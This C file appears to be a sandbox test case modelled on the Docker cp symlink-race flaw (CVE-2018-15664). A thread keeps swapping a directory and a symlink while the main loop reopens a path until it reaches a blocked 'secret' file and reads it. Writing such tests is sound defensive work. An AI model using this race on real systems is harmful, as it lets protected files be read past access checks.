/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A path that leads to a harmless file and to the blocked one in turns, while it is being opened.
 *
 * What is looked up when the path is judged need not be what is opened. Docker's `cp` was raced like this.
 *
 * ---
 * tries: [own]
 * source: CVE-2018-15664 (Docker)
 * rule: secret
 * wins: secret
 */
#include "attack.h"
#include <pthread.h>

static void *exchange(void *unused)
{
	const char *way = O("way"), *other = O("other");

	for (;;)
		renameat2(AT_FDCWD, way, AT_FDCWD, other, RENAME_EXCHANGE);
	return unused;
}

int main(void)
{
	const char *path = O("way/secret");
	pthread_t thread;
	struct stat s, secret;

	must(stat(V("secret"), &secret), "stat");
	must(mkdir(O("way"), 0755), "mkdir");
	close(open(path, O_CREAT | O_WRONLY, 0644));
	must(symlink(getenv("V"), O("other")), "symlink");
	must(pthread_create(&thread, NULL, exchange, NULL), "thread");
	for (int i = 0; i < 3000; i++) {
		int fd = open(path, O_RDONLY);

		if (fd >= 0 && !fstat(fd, &s) && s.st_ino == secret.st_ino)
			return show(fd);
		if (fd >= 0)
			close(fd);
	}
	return 1;
}
